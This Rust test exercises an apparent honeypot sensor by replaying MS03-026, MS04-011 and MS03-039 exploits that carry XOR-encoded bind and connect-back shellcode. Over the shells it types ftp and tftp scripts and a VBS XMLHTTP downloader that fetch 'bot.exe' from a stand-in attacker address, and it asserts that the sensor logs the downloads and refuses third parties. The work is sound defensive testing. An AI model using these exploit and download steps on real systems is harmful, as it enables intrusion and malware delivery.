fn exploit_with_shellcode(
    vector: Vector,
    attacker: &str,
    victim: Ipv4Addr,
    shellcode: &[u8],
) -> (bool, u16, Vec<Vec<u8>>) {
    let chars = shellcode.len() + 8; // room as ASCII or as UTF-16LE
    let marker = "Q".repeat(chars);
    let script = client_script(
        vector,
        attacker,
        &victim.to_string(),
        None,
        None,
        &marker,
        1000,
        [9; 16],
        SmbIds::default(),
    );
    // DCE-RPC strings are UTF-16LE; the Messenger text (MS03-043) is not.
    let needle: Vec<u8> = if script.udp {
        marker.into_bytes()
    } else {
        marker.bytes().flat_map(|b| [b, 0]).collect()
    };
    let mut placed = 0;
    let messages = script
        .messages
        .into_iter()
        .map(|mut m| {
            if let Some(at) = m.windows(needle.len()).position(|w| w == needle) {
                let region = &mut m[at..at + needle.len()];
                region.fill(0x90);
                region[..shellcode.len()].copy_from_slice(shellcode);
                placed += 1;
            }
            m
        })
        .collect();
    assert_eq!(placed, 1, "the marker is in one message");
    (script.udp, script.port, messages)
}

/// Reads until the shell's prompt; returns everything read.
fn read_to_prompt(s: &mut TcpStream) -> String {
    const PROMPT: &[u8] = b"C:\\WINDOWS\\system32>";
    s.set_read_timeout(Some(Duration::from_secs(40))).unwrap();
    let mut got = Vec::new();
    let mut b = [0u8; 1024];
    while !got.ends_with(PROMPT) {
        let n = s
            .read(&mut b)
            .unwrap_or_else(|e| panic!("no prompt ({e}); got {}", String::from_utf8_lossy(&got)));
        assert!(n > 0, "shell closed: {}", String::from_utf8_lossy(&got));
        got.extend_from_slice(&b[..n]);
    }
    String::from_utf8(got).unwrap()
}

/// Types `line` and returns the shell's answer up to the next prompt.
fn type_line(s: &mut TcpStream, line: &str) -> String {
    s.write_all(format!("{line}\r\n").as_bytes()).unwrap();
    read_to_prompt(s)
}

fn tcp_from(src: &str, to: SocketAddr) -> std::io::Result<TcpStream> {
    // SAFETY: plain socket calls on a fresh descriptor we own.
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
        assert!(fd >= 0);
        let sa = |ip: Ipv4Addr, port: u16| {
            let mut sa: libc::sockaddr_in = std::mem::zeroed();
            sa.sin_family = libc::AF_INET as libc::sa_family_t;
            sa.sin_addr.s_addr = u32::from(ip).to_be();
            sa.sin_port = port.to_be();
            sa
        };
        let len = std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t;
        let from = sa(src.parse().unwrap(), 0);
        let SocketAddr::V4(to) = to else { panic!() };
        let dst = sa(*to.ip(), to.port());
        if libc::bind(fd, (&from as *const libc::sockaddr_in).cast(), len) != 0
            || libc::connect(fd, (&dst as *const libc::sockaddr_in).cast(), len) != 0
        {
            let e = std::io::Error::last_os_error();
            libc::close(fd);
            return Err(e);
        }
        Ok(<TcpStream as std::os::fd::FromRawFd>::from_raw_fd(fd))
    }
}

/// Accepts one connection within `wait`.
fn accept_within(l: &TcpListener, wait: Duration) -> (TcpStream, SocketAddr) {
    l.set_nonblocking(true).unwrap();
    let deadline = Instant::now() + wait;
    loop {
        match l.accept() {
            Ok((s, a)) => {
                s.set_nonblocking(false).unwrap();
                return (s, a);
            }
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock && Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(50))
            }
            Err(e) => panic!("no connection on {:?}: {e}", l.local_addr()),
        }
    }
}

/// The shell paths end to end, with real servers on the attacker side
/// (vsftpd, tftpd-hpa's in.tftpd, Python's http.server) and the exploits
/// carrying XOR-encoded shellcode (A1's nasm bodies under the byte-XOR
/// jmp/call/pop stub):
/// (a) MS03-026 + bind shell on 4444 + a typed ftp.exe script naming
///     0.0.0.0: vsftpd opens the data connection to the sensor (active
///     mode, still `reverse_connect`); a stranger connecting to 4444 first is refused;
///     a typed script naming a third party is refused;
/// (b) MS04-011 + connect-back to the attacker's 5555 + typed `tftp -i`;
/// (b') MS03-026 + connect-back to a third party: refused, never contacted;
/// (c) MS03-039 whose shellcode WinExecs a script fetching an HTTP URL.
/// Asserts vectors, copy methods, shell kinds, the stored SHA-256, the
/// refusals, and an nftables counter of zero packets to the third party.
#[test]
fn shell_sessions_in_namespaces() {
    const ATK: &str = "10.203.1.2";
    const THIRD: &str = "10.203.1.3";
    const STRANGER: &str = "10.203.1.4";
    let sensor_ip = |i: u8| Ipv4Addr::new(10, 203, 0, 10 + i);
    for bin in [
        "ip",
        "in.tftpd",
        "vsftpd",
        "nft",
        "nasm",
        "/usr/bin/python3",
    ] {
        assert!(
            Command::new("sh")
                .args([
                    "-c",
                    &format!("command -v {bin} || test -x /usr/sbin/{bin}")
                ])
                .output()
                .unwrap()
                .status
                .success(),
            "{bin} missing: scripts/setup.sh installs it"
        );
    }
    let tag = std::process::id() % 100_000;
    let sens = Netns::new(format!("bsh{tag}"));
    let atk = Netns::new(format!("bsk{tag}"));
    let (vs, va) = (format!("vh{tag}"), format!("vk{tag}"));
    sh(&[
        "ip", "link", "add", &vs, "type", "veth", "peer", "name", &va,
    ]);
    sh(&["ip", "link", "set", &vs, "netns", &sens.0]);
    sh(&["ip", "link", "set", &va, "netns", &atk.0]);
    sh(&[
        "ip",
        "-n",
        &sens.0,
        "addr",
        "add",
        "10.203.0.1/16",
        "dev",
        &vs,
    ]);
    for i in 0..4 {
        let a = format!("{}/32", sensor_ip(i));
        sh(&["ip", "-n", &sens.0, "addr", "add", &a, "dev", &vs]);
    }
    sh(&["ip", "-n", &sens.0, "link", "set", &vs, "up"]);
    for a in [ATK, THIRD, STRANGER] {
        let a = format!("{a}/16");
        sh(&["ip", "-n", &atk.0, "addr", "add", &a, "dev", &va]);
    }
    sh(&["ip", "-n", &atk.0, "link", "set", &va, "up"]);
    let nft = |args: &[&str]| {
        let mut a = vec!["ip", "netns", "exec", &sens.0, "nft"];
        a.extend_from_slice(args);
        sh(&a);
    };
    nft(&["add", "table", "inet", "bs"]);
    nft(&[
        "add",
        "chain",
        "inet",
        "bs",
        "out",
        "{ type filter hook output priority 0 ; }",
    ]);
    for addr in [THIRD, ATK] {
        nft(&[
            "add", "rule", "inet", "bs", "out", "ip", "daddr", addr, "counter",
        ]);
    }

    // The attacker's servers, serving a synthetic benign specimen.
    let tmp = tempfile::tempdir().unwrap();
    let specimen: Vec<u8> = {
        let mut v = b"MZ".to_vec();
        v.extend((0..60_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8));
        v
    };
    let sha = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(&specimen))
    };
    let srv = tmp.path().join("srv");
    std::fs::create_dir(&srv).unwrap();
    std::fs::write(srv.join("bot.exe"), &specimen).unwrap();
    sh(&["chmod", "-R", "a+rX", tmp.path().to_str().unwrap()]);
    let _tftpd = atk.spawn(&[
        "in.tftpd",
        "--foreground",
        "--listen",
        "--address",
        &format!("{ATK}:69"),
        "--secure",
        srv.to_str().unwrap(),
    ]);
    std::fs::create_dir_all("/var/run/vsftpd/empty").unwrap();
    let vsconf = tmp.path().join("vsftpd.conf");
    // Active mode is vsftpd's default (port_enable); the PORT address
    // must be the control connection's own (port_promiscuous=NO).
    std::fs::write(
        &vsconf,
        format!(
            "listen=YES\nlisten_address={ATK}\nbackground=NO\nanonymous_enable=YES\nlocal_enable=NO\n\
             anon_root={}\nno_anon_password=YES\nport_enable=YES\nport_promiscuous=NO\n\
             seccomp_sandbox=NO\nisolate_network=NO\nsecure_chroot_dir=/var/run/vsftpd/empty\n",
            srv.display()
        ),
    )
    .unwrap();
    let _vsftpd = atk.spawn(&["vsftpd", vsconf.to_str().unwrap()]);
    let _http = atk.spawn(&[
        "/usr/bin/python3",
        "-m",
        "http.server",
        "8080",
        "--bind",
        ATK,
        "--directory",
        srv.to_str().unwrap(),
    ]);

    // Shellcode, XOR-encoded (never executed).
    let octets = |a: &str| u32::from_le_bytes(a.parse::<Ipv4Addr>().unwrap().octets()) as u64;
    let bind = xor8_encoded(nasm("bind_body", &[("PORT", 4444)]));
    let back = xor8_encoded(nasm(
        "connect_body",
        &[("IPLE", octets(ATK)), ("PORT", 5555)],
    ));
    let back_third = xor8_encoded(nasm(
        "connect_body",
        &[("IPLE", octets(THIRD)), ("PORT", 5556)],
    ));
    let http = xor8_encoded(winexec_body(&format!(
        "cmd /c echo Set x=CreateObject(\"Microsoft.XMLHTTP\"):x.Open \"GET\",\"http://{ATK}:8080/bot.exe\",0:x.Send>d.vbs&cscript d.vbs"
    )));
    for sc in [&bind, &back, &back_third, &http] {
        assert!(
            !sc.windows(2).any(|w| w == [0, 0]),
            "no 00 00 in the shellcode"
        );
    }

    let store_dir = tmp.path().join("store");
    let log_path = tmp.path().join("sensor.jsonl");
    let cfg = SensorConfig::parse(&format!(
        "addresses = [\"10.203.0.10-10.203.0.13\"]\ntcp_ports = [135, 445]\nudp_ports = []\n\
         log = \"{}\"\n[limits]\nsession_idle_secs = 30\ndownload_timeout_secs = 15\n\
         downloads_per_source = 16\nshell_wait_secs = 30\n",
        log_path.display()
    ))
    .unwrap();
    let (ev_tx, ev_rx) = mpsc::channel::<SensorEvent>();
    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
    let store = botscope_specimen::Store::open(&store_dir).unwrap();
    let sensor = in_ns(&sens.0, move || -> RunReport {
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .unwrap();
        rt.block_on(run(
            cfg,
            std::sync::Arc::new(StoreSink(std::sync::Mutex::new(store))),
            move |e| {
                let _ = ev_tx.send(e.clone());
            },
            async {
                let _ = stop_rx.await;
            },
        ))
        .expect("sensor runs")
    });
    let mut events = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(20);
    while !events
        .iter()
        .any(|e| matches!(e, SensorEvent::Started { .. }))
    {
        assert!(
            Instant::now() < deadline,
            "sensor did not start: {events:?}"
        );
        if let Ok(e) = ev_rx.recv_timeout(Duration::from_millis(200)) {
            events.push(e);
        }
    }

    let (bind_c, back_c, back3_c, http_c) =
        (bind.clone(), back.clone(), back_third.clone(), http.clone());
    let attacker = in_ns(&atk.0, move || {
        // The servers answer before anything starts.
        for port in [21, 8080] {
            drop(connect_from_attacker(SocketAddr::new(
                ATK.parse().unwrap(),
                port,
            )));
        }
        let mut transcript = Vec::new();
        // (a) MS03-026 + bind shell on 4444.
        let victim = sensor_ip(0);
        let (_, port, msgs) = exploit_with_shellcode(Vector::Ms03_026, ATK, victim, &bind_c);
        // The exploit connection stays open, as a bot leaves it: the
        // sensor opens the shell when the client pauses (1 s), long before
        // the session's 30 s idle time would end it.
        let exploit_conn = replay_tcp_open(SocketAddr::new(IpAddr::V4(victim), port), &msgs);
        let shell_at = SocketAddr::new(IpAddr::V4(victim), 4444);
        // A stranger gets there first: let in by TCP, closed unread.
        let deadline = Instant::now() + Duration::from_secs(20);
        let mut stranger = loop {
            match tcp_from(STRANGER, shell_at) {
                Ok(s) => break s,
                Err(e) if Instant::now() > deadline => panic!("bind shell never opened: {e}"),
                Err(_) => std::thread::sleep(Duration::from_millis(100)),
            }
        };
        stranger
            .set_read_timeout(Some(Duration::from_secs(10)))
            .unwrap();
        let mut b = [0u8; 64];
        assert!(
            matches!(stranger.read(&mut b), Ok(0) | Err(_)),
            "a stranger got the shell"
        );
        let mut s = connect_from_attacker(shell_at);
        transcript.push(read_to_prompt(&mut s));
        for line in [
            "echo open 0.0.0.0 21 > o",
            "echo user anonymous x >> o",
            "echo bin >> o",
            "echo get bot.exe >> o",
            "echo bye >> o",
            "ftp -n -s:o",
            // A third party, in one &-chained line: refused.
            &format!("echo open {THIRD} 21 > t&echo user a b >> t&echo get bot.exe >> t&echo bye >> t&ftp -n -s:t"),
        ] {
            transcript.push(type_line(&mut s, line));
        }
        s.write_all(b"exit\r\n").unwrap();
        drop(s);
        drop(exploit_conn);
        // (b) MS04-011 + connect-back to the attacker's 5555, then tftp.
        let l = TcpListener::bind(format!("{ATK}:5555")).unwrap();
        let victim = sensor_ip(1);
        let (_, port, msgs) = exploit_with_shellcode(Vector::Ms04_011, ATK, victim, &back_c);
        replay_tcp(SocketAddr::new(IpAddr::V4(victim), port), &msgs);
        let (mut s, from) = accept_within(&l, Duration::from_secs(30));
        assert_eq!(
            from.ip(),
            IpAddr::V4(victim),
            "the shell comes from the attacked address"
        );
        transcript.push(read_to_prompt(&mut s));
        transcript.push(type_line(&mut s, &format!("tftp -i {ATK} GET bot.exe")));
        s.write_all(b"exit\r\n").unwrap();
        drop(s);
        // (b') MS03-026 + connect-back to a third party.
        let victim = sensor_ip(2);
        let (_, port, msgs) = exploit_with_shellcode(Vector::Ms03_026, ATK, victim, &back3_c);
        replay_tcp(SocketAddr::new(IpAddr::V4(victim), port), &msgs);
        // (c) MS03-039 whose shellcode fetches an HTTP URL.
        let victim = sensor_ip(3);
        let (_, port, msgs) = exploit_with_shellcode(Vector::Ms03_039, ATK, victim, &http_c);
        replay_tcp(SocketAddr::new(IpAddr::V4(victim), port), &msgs);
        transcript
    });
    let transcript = attacker.join().expect("attacker script");

    let done = |ev: &[SensorEvent]| {
        let n = |f: &dyn Fn(&SensorEvent) -> bool| ev.iter().filter(|e| f(e)).count();
        n(&|e| matches!(e, SensorEvent::Download { .. })) >= 3
            && n(&|e| matches!(e, SensorEvent::Shell { .. })) >= 2
            && n(&|e| matches!(e, SensorEvent::ShellRefused { .. })) >= 2
            && n(&|e| matches!(e, SensorEvent::Session { .. })) >= 4
    };
    let deadline = Instant::now() + Duration::from_secs(60);
    while !done(&events) && Instant::now() < deadline {
        if let Ok(e) = ev_rx.recv_timeout(Duration::from_millis(200)) {
            events.push(e);
        }
    }
    std::thread::sleep(Duration::from_secs(1));
    while let Ok(e) = ev_rx.try_recv() {
        events.push(e);
    }
    let _ = stop_tx.send(());
    let report = sensor.join().expect("sensor thread");

    // What the attacker saw.
    assert_eq!(
        transcript[0],
        "Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>"
    );
    assert!(
        transcript[6].contains(&format!("ftp: {} bytes received", specimen.len())),
        "{}",
        transcript[6]
    );
    assert!(
        transcript[7].contains("Connection refused"),
        "{}",
        transcript[7]
    );
    assert!(
        transcript[9].contains(&format!("Transfer successful: {} bytes", specimen.len())),
        "{}",
        transcript[9]
    );

    // Vectors of the four exploit sessions.
    let mut vector_at = std::collections::HashMap::new();
    for e in &events {
        if let SensorEvent::Session { dst, vectors, .. } = e {
            vector_at.insert(dst.ip(), vectors.first().cloned().unwrap_or_default());
        }
    }
    for (i, want) in ["MS03-026", "MS04-011", "MS03-026", "MS03-039"]
        .iter()
        .enumerate()
    {
        assert_eq!(
            vector_at
                .get(&IpAddr::V4(sensor_ip(i as u8)))
                .map(String::as_str),
            Some(*want),
            "vector at {}",
            sensor_ip(i as u8)
        );
    }
    // Downloads: vector, copy method, shell kind and SHA-256.
    use botscope_sensor::shell::ShellKind;
    /// (vector, copy method, shell, SHA-256, error) of a download.
    type Got = (
        String,
        String,
        Option<ShellKind>,
        Option<String>,
        Option<String>,
    );
    let mut downloads: Vec<Got> = events
        .iter()
        .filter_map(|e| match e {
            SensorEvent::Download {
                vector,
                copy_method,
                shell,
                sha256,
                error,
                ..
            } => Some((
                vector.clone().unwrap_or_default(),
                copy_method.clone(),
                *shell,
                sha256.clone(),
                error.clone(),
            )),
            _ => None,
        })
        .collect();
    downloads.sort_by(|a, b| (&a.0, &a.1).cmp(&(&b.0, &b.1)));
    let ok = |v: &str, m: &str, k: Option<ShellKind>| {
        (v.to_string(), m.to_string(), k, Some(sha.clone()), None)
    };
    assert_eq!(
        downloads,
        [
            ok("MS03-026", "reverse_connect", Some(ShellKind::Bind)),
            ok("MS03-039", "reverse_connect", None),
            ok("MS04-011", "tftp_get", Some(ShellKind::ConnectBack)),
        ]
    );
    let store = botscope_specimen::Store::open(&store_dir).unwrap();
    assert_eq!(store.read(&sha).unwrap(), specimen);

    // Shell sessions.
    let shells: Vec<(ShellKind, IpAddr, usize, usize, &str)> = events
        .iter()
        .filter_map(|e| match e {
            SensorEvent::Shell {
                kind,
                dst,
                lines,
                fetches,
                end,
                ..
            } => Some((*kind, dst.ip(), *lines, *fetches, *end)),
            _ => None,
        })
        .collect();
    assert_eq!(
        shells,
        [
            (ShellKind::Bind, IpAddr::V4(sensor_ip(0)), 8, 2, "exit"),
            (
                ShellKind::ConnectBack,
                IpAddr::V4(sensor_ip(1)),
                2,
                1,
                "exit"
            ),
        ]
    );
    // Refusals: the typed third-party script, the stranger, the
    // connect-back to a third party.
    let refusals: Vec<String> = events
        .iter()
        .filter_map(|e| match e {
            SensorEvent::Refused { reason, .. } => Some(format!("refused {reason}")),
            SensorEvent::ShellRefused { offer, reason, .. } => Some(format!(
                "shell_refused {} {reason}",
                serde_json::to_string(offer).unwrap()
            )),
            _ => None,
        })
        .collect();
    let atk_ip = ATK;
    assert_eq!(
        refusals,
        [
            format!("shell_refused {{\"kind\":\"bind\",\"port\":4444}} connection from {STRANGER}, not from the attacking address {atk_ip}"),
            format!("refused instruction names {THIRD}, not the attacking address {atk_ip}"),
            format!("shell_refused {{\"kind\":\"connect_back\",\"addr\":\"{THIRD}\",\"port\":5556}} instruction names {THIRD}, not the attacking address {atk_ip}"),
        ]
    );
    // Not one packet to the third party; the attacker's counter counts.
    assert_eq!(nft_packets_to(&sens.0, THIRD), 0);
    assert!(nft_packets_to(&sens.0, ATK) > 0);
    assert_eq!(
        (report.shells, report.downloads_ok, report.refused),
        (2, 3, 3)
    );
    // The event log has it too: one JSON line per download, with the shell.
    let log = std::fs::read_to_string(&log_path).unwrap();
    let line = log
        .lines()
        .find(|l| l.contains(r#""event":"download""#) && l.contains(r#""shell":"bind""#))
        .expect("bind-shell download in the log");
    for want in [
        r#""vector":"MS03-026""#.to_string(),
        r#""copy_method":"reverse_connect""#.to_string(),
        format!(r#""sha256":"{sha}""#),
    ] {
        assert!(line.contains(&want), "{want} in {line}");
    }
}
